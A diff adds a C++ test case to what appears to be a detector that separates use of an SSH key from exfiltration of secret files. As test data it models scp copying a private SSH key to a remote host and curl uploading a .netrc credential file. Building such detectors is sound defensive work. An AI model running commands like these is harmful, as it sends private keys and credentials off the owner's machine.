@@ -366,3 +366,53 @@ TEST_CASE("signals: the reason names uploader, destination, reader and file")
     CHECK(human_bytes(1023) == "1023 B");
     CHECK(human_bytes(1536) == "1.5 KiB");
 }
+
+TEST_CASE("signals: a key handed to ssh with -i is use; the same key as scp's file to copy is data")
+{
+    auto ssh = proc("ssh", {"ssh", "-i", ssh_key, "-p", "2222", "root@host", "true"});
+    View use;
+    use.read(ssh, ssh_key, 400);
+    auto d = data_in_lineage(rules(), use.view, ssh);
+    CHECK_FALSE(d.has_data());
+    CHECK(d.own_use.size() == 1);
+    for (auto args : {std::vector<std::string>{"ssh", "-i" + ssh_key, "host"},
+                      std::vector<std::string>{"ssh", "-o", "IdentityFile=" + ssh_key, "host"},
+                      std::vector<std::string>{"ssh", "-oIdentityFile=" + ssh_key, "host"},
+                      std::vector<std::string>{"ssh", "--identity=" + ssh_key, "host"}}) {
+        auto p = proc("ssh", args);
+        CHECK_FALSE(names_file(without_identity_options(p), ssh_key));
+        CHECK(names_file(p, ssh_key));
+    }
+    // scp -i DEPLOY KEY host: : the deploy key is use, the copied key is data (read by scp,
+    // carried by its ssh child).
+    const std::string deploy = home + "/.ssh/id_deploy";
+    auto scp = proc("scp", {"scp", "-i", deploy, ssh_key, "root@host:/tmp/"});
+    auto child = proc("ssh", {"ssh", "-i", deploy, "-x", "root@host", "scp -t /tmp/"});
+    child.parent_entity_id = scp.entity_id;
+    View leak;
+    leak.member(child);
+    leak.read(child, deploy, 400);
+    leak.read(scp, ssh_key, 2600);
+    auto d2 = data_in_lineage(rules(), leak.view, child);
+    REQUIRE(d2.has_data());
+    CHECK(d2.top->read->path == ssh_key);
+    CHECK(d2.own_use.size() == 1);
+    // Its twin: scp -i DEPLOY artifact host: has no data.
+    auto plain = proc("scp", {"scp", "-i", deploy, "artifact.tar", "root@host:/tmp/"});
+    child.parent_entity_id = plain.entity_id;
+    View everyday;
+    everyday.member(child);
+    everyday.member(plain);
+    everyday.read(child, deploy, 400);
+    CHECK_FALSE(data_in_lineage(rules(), everyday.view, child).has_data());
+    // A consumer outside the uploader's line naming the key (ssh-keygen -f KEY earlier) is use.
+    auto keygen = proc("ssh-keygen", {"ssh-keygen", "-y", "-f", ssh_key});
+    auto curl_up = proc("curl", {"curl", "-d", "hello", "https://x/"});
+    View earlier;
+    earlier.member(curl_up);
+    earlier.read(keygen, ssh_key, 400);
+    CHECK_FALSE(data_in_lineage(rules(), earlier.view, curl_up).has_data());
+    // curl -i is --include: what follows stays named.
+    auto curl = proc("curl", {"curl", "-i", "-F", "f=@" + netrc, "https://x/"});
+    CHECK(names_file(without_identity_options(curl), netrc));
+}
